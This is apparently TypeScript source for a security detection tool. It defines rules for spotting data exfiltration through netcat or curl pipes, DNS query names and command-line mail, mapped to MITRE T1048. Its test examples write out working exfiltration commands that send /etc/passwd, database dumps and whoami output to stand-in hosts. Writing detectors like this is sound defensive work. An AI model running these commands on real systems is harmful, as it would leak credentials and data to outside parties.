import type { CommandLine } from "#alert/command-line.ts";
import type { Indicator } from "../../indicator.ts";
import { calls, findPipe, hasWord, inCommands, quoteBetween, quoteCommand, wordWhere } from "../execution/calls.ts";
import { inContainer, ran } from "../execution/examples.ts";
import { netcats } from "../execution/programs.ts";
import { behind, firstOf } from "../gates.ts";
import { exfiltration, isSink } from "./data-ways.ts";

/** Sending data as it is read, by network tools, names or mail. */

const producers = new Set([
  "tar",
  "cat",
  "zip",
  "gzip",
  "mysqldump",
  "pg_dump",
  "pg_dumpall",
  "mongodump",
  "base64",
  "dd",
  "find",
  "cpio",
  "xz",
  "bzip2",
  "7z",
  "sqlite3",
  "zcat",
  "head",
  "xxd",
  "openssl",
  "gpg",
]);

/** Programs that mail what they are given as their input. */
const mailers = new Set(["sendmail", "mail", "mailx"]);

const mailCall = calls(new Set(["mail", "mailx", "mutt", "s-nail", "swaks", "sendemail"]), (call) =>
  hasWord(call, "-a", "-A", "--attach", "-attach"),
);

export const pipesDataToNetwork: Indicator = {
  ...exfiltration,
  id: "pipes-data-to-network",
  behaviour: "packs or reads data and sends it straight into the network",
  meaning: "Nothing is written on the way, so only the traffic shows what left.",
  technique: "T1048",
  alsoTechniques: ["T1048.003", "T1560.001"],
  severity: "high",
  certainty: "likely",
  source: "https://attack.mitre.org/techniques/T1048/",
  match: behind({ needs: ["joined-commands"] }, (facts) =>
    inCommands(facts, (line) => pipedOut(line) ?? fileIntoNetcat(line)),
  ),
  examples: {
    found: [
      ran("sh -c tar czf - /srv/data | nc 203.0.113.9 9000", inContainer),
      ran("bash -c mysqldump --all-databases | gzip | curl -T - http://203.0.113.9/d"),
      ran("sh -c nc 203.0.113.9 4444 < /etc/passwd"),
    ],
    ignored: [
      ran("sh -c cat a.txt | grep x"),
      ran("sh -c tar cf - a | tar xf - -C b"),
      ran("sh -c echo x | nc -z 10.0.0.1 80"),
      ran("sh -c cat key | openssl dgst -sha256"),
    ],
  },
};

export const leaksThroughDns: Indicator = {
  ...exfiltration,
  id: "leaks-through-dns",
  behaviour: "puts data into the names it asks DNS for",
  meaning: "The answer does not matter: the server of that domain has already read the question.",
  technique: "T1048.003",
  alsoTechniques: ["T1071.004"],
  severity: "high",
  certainty: "likely",
  source: "https://attack.mitre.org/techniques/T1048/003/",
  match: calls(new Set(["dig", "nslookup", "host", "ping", "getent", "drill"]), (call) =>
    wordWhere(
      call,
      (value) =>
        /(?:\$\(|`)[^)`]{1,200}(?:\)|`)\S{0,40}\.[a-z]/i.test(value) ||
        /^(?:[a-z0-9+/=_-]{40,63}\.){1,4}[\w-]{1,40}\.\w{2,}/i.test(value) ||
        /\$\{?\w{1,20}\}?\.(?:[\w-]{1,40}\.){1,5}[a-z]{2,}/.test(value),
    ),
  ),
  examples: {
    found: [
      ran("sh -c nslookup $(whoami).x.example.net", inContainer),
      ran("dig 6d7973716c20726f6f742070617373776f72643a2078797a.t.example.net"),
      ran("sh -c for b in $(xxd -p f); do dig $b.t.example.net; done"),
    ],
    ignored: [ran("dig example.com"), ran("nslookup db.shop.svc.cluster.local"), ran("ping -c 1 host")],
  },
};

export const mailsFile: Indicator = {
  ...exfiltration,
  id: "mails-file",
  behaviour: "sends a file by mail from the command line",
  meaning: "Mail leaves most networks unread.",
  technique: "T1048.003",
  severity: "medium",
  certainty: "weak",
  source: "https://attack.mitre.org/techniques/T1048/003/",
  match: firstOf(
    mailCall,
    behind({ programs: mailers }, (facts) => mailFromFile(facts.process.command)),
  ),
  examples: {
    found: [
      ran("mail -a /tmp/x.zip -s x a@example.net"),
      ran("sh -c mutt -s x -a /etc/passwd -- a@example.net"),
      ran("sh -c sendmail a@example.net < /etc/passwd"),
    ],
    ignored: [ran("mail"), ran("sendmail -bd -q15m")],
  },
};

function pipedOut(line: CommandLine): string | null {
  const pipe = findPipe(line, ({ program }) => producers.has(program), isSink);
  return pipe && quoteBetween(line, ...pipe);
}

/** `nc host port < file`. */
function fileIntoNetcat(line: CommandLine): string | null {
  const command = line.commands.find(
    ({ program, redirections }) =>
      netcats.has(program) &&
      redirections.some(({ operator, target }) => operator === "<" && !target.startsWith("/dev/")),
  );
  return command === undefined ? null : quoteCommand(line, command);
}

function mailFromFile(line: CommandLine): string | null {
  const command = line.commands.find(
    ({ program, redirections }) => mailers.has(program) && redirections.some(({ operator }) => operator === "<"),
  );
  return command === undefined ? null : quoteCommand(line, command);
}
